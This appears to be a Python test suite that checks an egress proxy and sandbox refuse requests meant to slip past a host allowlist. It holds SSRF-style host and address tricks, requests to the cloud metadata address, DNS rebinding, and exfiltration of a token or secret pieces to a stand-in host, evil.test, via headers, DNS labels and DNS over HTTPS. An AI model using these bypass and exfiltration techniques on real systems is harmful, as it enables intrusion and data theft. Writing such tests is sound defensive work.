"""Names, addresses, ports, DNS, IPv6: getting to a host that is not allowed,
by saying its name so that the check and the resolver understand two hosts."""
import time

from technique import PARSE, T, TOKEN, carrying, get
from world import EVIL, EVIL6, GOOD, GOOD6, HOST, HOST6, TRAPS, TRAPS6

POLICY = ("policy", "host_not_allowed")
PORT = ("policy", "port_not_allowed")

# --- names ------------------------------------------------------------------

for name, data in [
        ("CONNECT to a host that is not listed", carrying("evil.test:443")),
        ("absolute form to a host that is not listed", get("evil.test")),
        ("a name that ends like a listed one", carrying("eviltunnel.test:443")),
        ("a name that begins like a listed one",
         carrying("tunnel.test.evil.test:443")),
        ("a name that contains a listed one",
         get("plain.test.evil.test")),
        ("below an entry that is exact", carrying("data.tunnel.test:443")),
        ("no dot before the domain's entry", carrying("evilwide.test:443")),
        ("a domain's entry as the beginning",
         carrying("wide.test.evil.test:443")),
        ("unlisted, with the root's dot", carrying("evil.test.:443")),
        ("unlisted, in capitals", carrying("EVIL.TEST:443")),
        ("a homograph in punycode", carrying("xn--tunnl-esa.test:443")),
        ("data in the labels of a name below the attacker's",
         carrying("c2vjcmv0.evil.test:443")),
        ("localhost", get("localhost")),
        ("localhost with a domain", get("localhost.localdomain")),
        ("the last label alone", carrying("test:443")),
        ("a host that only its Host header allows",
         get("evil.test", of=b"plain.test")),
        ("CONNECT to a host that only its Host header allows",
         b"CONNECT evil.test:443 HTTP/1.1\r\nHost: tunnel.test:443\r\n"
         b"X-Data: " + TOKEN + b"\r\n\r\n"),
]:
    T("names", name, data, {400, 403, 421}, PARSE | {POLICY, ("host", "host_mismatch")},
      control="tunnel")

for name, host in [
        ("NUL, then a listed name", b"evil.test\0.tunnel.test"),
        ("NUL behind a listed name", b"tunnel.test\0.evil.test"),
        ("NUL encoded", b"evil.test%00.tunnel.test"),
        ("a dot encoded", b"tunnel%2etest"),
        ("a blank inside", b"evil.test .tunnel.test"),
        ("a tab inside", b"evil.test\t.tunnel.test"),
        ("a CR inside", b"evil.test\r.tunnel.test"),
        ("a line feed inside", b"evil.test\n.tunnel.test"),
        ("a vertical tab inside", b"evil.test\x0b.tunnel.test"),
        ("DEL inside", b"tunnel.test\x7f"),
        ("a userinfo that is listed", b"tunnel.test@evil.test"),
        ("a userinfo before a listed host", b"evil.test@tunnel.test"),
        ("userinfo with a port", b"tunnel.test:443@evil.test"),
        ("a backslash", b"evil.test\\.tunnel.test"),
        ("a backslash before @", b"evil.test\\@tunnel.test"),
        ("a hash", b"evil.test#.tunnel.test"),
        ("a question mark", b"evil.test?.tunnel.test"),
        ("a slash", b"evil.test/.tunnel.test"),
        ("a semicolon", b"tunnel.test;evil.test"),
        ("a comma", b"tunnel.test,evil.test"),
        ("two dots at the end", b"tunnel.test.."),
        ("a dot at the beginning", b".tunnel.test"),
        ("two dots inside", b"tunnel..test"),
        ("only a dot", b"."),
        ("a star", b"*.test"), ("a star alone", b"*"),
        ("an underscore", b"tun_nel.test"),
        ("a label of 64 letters", b"a" * 64 + b".wide.test"),
        ("a name of 255 letters", b"a." * 123 + b"wide.test"),
        ("a name of 8000 letters", b"a" * 7990 + b".test"),
        ("a hyphen first", b"-x.wide.test"), ("a hyphen last", b"x-.wide.test"),
        ("an umlaut in UTF-8", "tünnel.test".encode()),
        ("an ideographic full stop", "tunnel\u3002test".encode()),
        ("a full-width letter", "\uff54unnel.test".encode()),
        ("a soft hyphen", "tun\u00adnel.test".encode()),
        ("a right-to-left mark", "\u202etset.lennut".encode()),
        ("bytes that are no UTF-8", b"\xc0\xaetunnel.test"),
        ("an empty name", b""),
        ("brackets around a name", b"[tunnel.test]"),
        ("quotes around a name", b'"tunnel.test"'),
        ("a scheme in it", b"https://tunnel.test"),
]:
    T("names", name, carrying(host + b":443"), {400, 403}, PARSE,
      control="tunnel")
    if b"/" not in host and host not in (b"*", b"."):
        T("names", name + ", in a URL", get(host), 400, PARSE)

for name, host in [("NUL in Host", b"plain.test\0evil.test"),
                   ("a comma in Host", b"plain.test, evil.test"),
                   ("userinfo in Host", b"evil.test@plain.test"),
                   ("a blank in Host", b"plain.test evil.test"),
                   ("an empty Host", b""),
                   ("a path in Host", b"plain.test/evil.test")]:
    T("names", name, get("plain.test", of=host), {400, 421},
      PARSE | {("host", "host_mismatch")})

# --- addresses ---------------------------------------------------------------

for what, a in [
        ("the attacker's", EVIL), ("loopback", "127.0.0.1"),
        ("loopback, its other end", "127.255.255.254"),
        ("any", "0.0.0.0"), ("metadata", "169.254.169.254"),
        ("private", "10.0.0.5"), ("private, 192.168", "192.168.1.1"),
        ("the host's own", HOST), ("broadcast", "255.255.255.255"),
        ("the attacker's, with the root's dot", EVIL + "."),
        ("the good one's, not listed by its name", GOOD),
        ("IPv6 loopback", "[::1]"), ("IPv6 any", "[::]"),
        ("mapped loopback", "[::ffff:127.0.0.1]"),
        ("mapped, in hexadecimal", "[::ffff:2d0a:3]"),
        ("compatible", "[::45.10.0.3]"), ("unique local", "[fd12::1]"),
        ("NAT64", "[64:ff9b::2d0a:3]"), ("6to4", "[2002:2d0a:3::1]"),
        ("link-local", "[fe80::1]"), ("the attacker's IPv6",
                                      "[%s]" % EVIL6),
        ("the host's own IPv6", "[%s]" % HOST6)]:
    T("addresses", what, carrying(a + ":443"), 403, POLICY, control="literal")
    T("addresses", what + ", in a URL", get(a), 403, POLICY,
      control="literal")

for what, a in [
        ("a decimal number", "755630083"), ("loopback as a number",
                                            "2130706433"),
        ("hexadecimal", "0x2d0a0003"), ("hexadecimal parts", "0x2d.0xa.0.3"),
        ("octal parts", "055.012.0.3"), ("leading zeros", "127.000.000.001"),
        ("two parts", "127.1"), ("three parts", "45.10.3"),
        ("zero", "0"), ("five parts", "45.10.0.3.1"),
        ("a part of 256", "45.10.0.256"), ("mixed", "45.10.0x3"),
        ("full-width digits", "\uff14\uff15.10.0.3"),
        ("circled digits", "\u2463\u2464.10.0.3"),
        ("a zone", "[fe80::1%25lo]"), ("a zone, not encoded", "[::1%lo]"),
        ("IPvFuture", "[v1.fe80::1]"), ("brackets not closed", "[::1"),
        ("IPv6 without brackets", "::1"), ("empty brackets", "[]"),
        ("brackets around IPv4", "[45.10.0.3]"),
        ("text behind the brackets", "[::1]tunnel.test"),
        ("a prefix length", "45.10.0.0/24"),
        ("NUL inside of brackets", "[::1\0]")]:
    T("addresses", what, carrying(a.encode() + b":443"), {400, 403}, PARSE,
      control="literal")

# --- ports -------------------------------------------------------------------

for port in (22, 80, 25, 9418, 5432, 8443, 3128, 444):
    T("ports", "CONNECT to a listed host's port %d" % port,
      carrying("tunnel.test:%d" % port), 403, PORT, control="tunnel")
for host, port in (("github.com", 22), ("github.com", 80),
                   ("github.com", 9418), ("pypi.org", 80),
                   ("pypi.org", 8443), ("inner.test", 22),
                   ("odd.test", 443), ("plain.test", 443),
                   ("plain.test", 80)):
    T("ports", "CONNECT %s:%d" % (host, port), carrying("%s:%d" % (host, port)),
      403, PORT, control="odd" if host == "odd.test" else "tunnel")
for host in ("tunnel.test", "github.com", "pypi.org", "inner.test",
             "plain.test:443", "plain.test:8080", "plain.test:22",
             "plain.test:8443"):
    T("ports", "http://" + host, get(host), 403, PORT)
for text in ("tunnel.test", "tunnel.test:", "tunnel.test:0", "tunnel.test:00",
             "tunnel.test:65979", "tunnel.test:0443", "tunnel.test:+443",
             "tunnel.test:-1", "tunnel.test:443:443", "tunnel.test:443x",
             "tunnel.test:0x1bb", "tunnel.test:https", "tunnel.test: 443",
             "tunnel.test:443,evil.test:443", "tunnel.test:4294967739",
             "tunnel.test:443/", "tunnel.test:443?x", "tunnel.test:443\0"):
    T("ports", "CONNECT " + repr(text)[1:-1], carrying(text), 400, PARSE,
      control="tunnel")

# --- DNS ----------------------------------------------------------------------

ADDRESS = ("address", "address_refused")
BEHIND = {}     # names that the world must answer for
for i, a in enumerate(TRAPS + ["127.0.0.1", "0.0.0.0", "127.9.9.9", HOST,
                               "224.0.0.1", "255.255.255.255"] + TRAPS6 +
                      ["::1", "::ffff:10.0.0.5", "::ffff:45.10.0.3", "fe80::1",
                       "::", "ff02::1", HOST6, "::45.10.0.3"]):
    BEHIND["a%d.dns.test" % i] = [a]
    T("ipv6" if ":" in a else "dns", "a listed name whose address is " + a,
      get("a%d.dns.test" % i), {403, 502}, ADDRESS, control="dns")
for i, a in enumerate(("10.0.0.5", "127.0.0.1", "fd12::1")):
    BEHIND["b%d.dns.test" % i] = [a]
    T("dns", "CONNECT to a listed name whose address is " + a,
      carrying("b%d.dns.test:443" % i), {403, 502}, ADDRESS, control="dns")
BEHIND["alias.dns.test"] = ["cname inside.evil.test", "10.0.0.5"]
T("dns", "an alias of a private address", get("alias.dns.test"), {403, 502},
  {ADDRESS, ("dns", "dns_failed")}, control="dns")
BEHIND["mixed.dns.test"] = ["10.0.0.5", GOOD, "127.0.0.1", "169.254.169.254"]
T("dns", "good and private addresses in one answer: only the good is dialled",
  get("mixed.dns.test", b"/mixed"), {200, 403, 502}, None, control="dns",
  reach=True)
BEHIND["rebind.dns.test"] = lambda n: [GOOD] if n < 2 else ["10.0.0.5"]


def rebind(run):
    """The good address first, a private one for who asks again."""
    run.world.turns.clear()
    first = run.ask(run.dial(), get("rebind.dns.test", b"/first"))
    second = run.ask(run.dial(), get("rebind.dns.test", b"/second"))
    third = run.ask(run.dial(), get("rebind.dns.test"))
    if first.verdict() != 200:
        return "the first: %s" % first.verdict()
    good = {200, 403, 502}      # 200: an old answer, and its good address
    if second.verdict() not in good or third.verdict() not in {403, 502}:
        return "%s, %s" % (second.verdict(), third.verdict())
    return "never led there"


T("dns", "rebinding: a private address at the next question", rebind,
  "never led there", ADDRESS, control="dns", only="sbx")
BEHIND["gone.dns.test"] = []
T("dns", "a listed name without an address", get("gone.dns.test"), {502, 504},
  ("dns", "dns_failed"), control="dns")
T("dns", "a listed name that does not exist", get("nx.dns.test"), {502, 504},
  ("dns", "dns_failed"), control="dns")
T("dns", "DNS over TCP through the proxy", carrying("127.0.0.1:53"), 403,
  POLICY, control="literal")
T("dns", "DNS over TLS through the proxy", carrying("tunnel.test:853"), 403,
  PORT, control="tunnel")
T("dns", "DNS over HTTPS of a resolver that is not listed",
  get("dns.evil.test", b"/dns-query?dns=" + TOKEN), 403, POLICY)


def many_labels(run):
    """A secret, in pieces, in the names of hosts."""
    seen = set()
    for i in range(16):
        got = run.ask(run.dial(), carrying("p%d.evil.test:443" % i), 2)
        seen.add(got.verdict())
    run.asked = run.world.questions()
    return "no question" if seen == {403} and not run.asked else \
        "%s, asked %s" % (seen, run.asked)


T("dns", "16 pieces of a secret in names of hosts", many_labels, "no question",
  POLICY, only="sbx")


def direct(address, port=443, kind="tcp"):
    import errno
    import socket

    def f(run):
        v6 = ":" in address
        with run.box.ns:
            s = socket.socket(socket.AF_INET6 if v6 else socket.AF_INET,
                              socket.SOCK_STREAM if kind == "tcp"
                              else socket.SOCK_DGRAM)
        s.settimeout(2)
        try:
            if kind == "tcp":
                s.connect((address, port))
            else:
                s.sendto(run.token, (address, port))
        except OSError as e:
            return errno.errorcode.get(e.errno, str(e))
        finally:
            s.close()
        return "sent"
    return f


NOWAY = {"ENETUNREACH", "EHOSTUNREACH", "EADDRNOTAVAIL", "EACCES"}
for name, a, port, kind in [
        ("TCP to the attacker without the proxy", EVIL, 443, "tcp"),
        ("TCP to a listed host's address without the proxy", GOOD, 443, "tcp"),
        ("UDP to the attacker", EVIL, 53, "udp"),
        ("UDP to the host's address", HOST, 53, "udp"),
        ("QUIC to a listed host's address", GOOD, 443, "udp"),
        ("TCP to the host's address", HOST, 443, "tcp")]:
    T("sockets", name, direct(a, port, kind), NOWAY, only="sbx",
      control="tunnel")
for name, a, kind in [("IPv6 TCP to the attacker", EVIL6, "tcp"),
                      ("IPv6 TCP to a listed host's address", GOOD6, "tcp"),
                      ("IPv6 UDP to the attacker", EVIL6, "udp"),
                      ("IPv6 to a link-local address", "fe80::1", "tcp"),
                      ("IPv6 multicast", "ff02::1", "udp")]:
    T("ipv6", name, direct(a, 443, kind), NOWAY | {"EINVAL"}, only="sbx",
      control="tunnel")
for name, a, port in [("the sandbox's own loopback, another port",
                       "127.0.0.1", 443),
                      ("the proxy's port at another loopback address",
                       "127.0.0.2", 3128),
                      ("IPv6 loopback, the proxy's port", "::1", 3128)]:
    T("sockets", name, direct(a, port), "ECONNREFUSED", only="sbx",
      control="tunnel")


def second_listener(run):
    """Its own program in the place of the proxy."""
    import errno
    import socket
    seen = set()
    for reuse in (False, True):
        with run.box.ns:
            s = socket.socket()
        s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        if reuse:
            s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
        try:
            s.bind(("127.0.0.1", 3128))
            s.listen()
            seen.add("listens")
        except OSError as e:
            seen.add(errno.errorcode[e.errno])
        s.close()
    return seen.pop() if len(seen) == 1 else str(seen)


T("sockets", "a second listener at the proxy's port", second_listener,
  "EADDRINUSE", only="sbx", control="tunnel")


def closed_box(run):
    """A sandbox that was not given egress."""
    import errno
    box = run.target.box(opened=False)
    try:
        run.dial(box)
    except OSError as e:
        return errno.errorcode[e.errno]
    finally:
        run.target.drop(box)
    return "connected"


T("sockets", "a sandbox without egress", closed_box, "ECONNREFUSED",
  only="sbx", control="tunnel")


def ended_box(run):
    """Of a sandbox that has ended, a connection that it still holds."""
    box = run.target.box()
    c, d = run.tunnel("tunnel.test", box=box), run.dial(box)
    run.target.drop(box)
    time.sleep(0.2)
    seen = {run.ask(s, get("plain.test"), 1.5).verdict() for s in (c, d)}
    try:
        run.dial(box)
        seen.add("accepted")
    except OSError:
        pass
    return "ended" if seen <= {"close"} else str(seen)


T("sockets", "connections of a sandbox that has ended", ended_box, "ended",
  only="sbx", control="tunnel")
